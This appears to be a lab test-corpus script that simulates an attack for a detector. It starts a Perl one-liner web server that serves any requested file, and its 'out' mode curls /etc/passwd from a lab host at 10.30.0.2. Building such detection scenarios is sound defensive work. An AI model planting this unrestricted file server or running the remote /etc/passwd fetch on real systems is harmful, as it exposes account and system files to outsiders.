#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=new-listener half=report tool=perl far=out seconds=36 parts=dns
# A web server of one page in Perl, which somebody left behind, waits on a port; somebody outside comes and gets a list of accounts.
# shellcheck disable=SC2016 # perl has its own variables
if [ "$1" = out ]; then sleep 18; curl -s -o "$LAB/got" --max-time 8 http://10.30.0.2:8181/etc/passwd; exit 0; fi
timeout 32 perl -MIO::Socket::INET -e 'my $l = IO::Socket::INET->new(Listen => 5, LocalPort => 8181, ReuseAddr => 1) or die;
while (my $c = $l->accept) { my ($name) = <$c> =~ /^GET (\S+)/; while (<$c> =~ /\S/) { } open(my $f, "<", $name); local $/; my $d = <$f>; print $c "HTTP/1.0 200 OK\r\nContent-Length: " . length($d) . "\r\n\r\n$d"; close $c; }'
cmp -s /etc/passwd "$LAB/got"
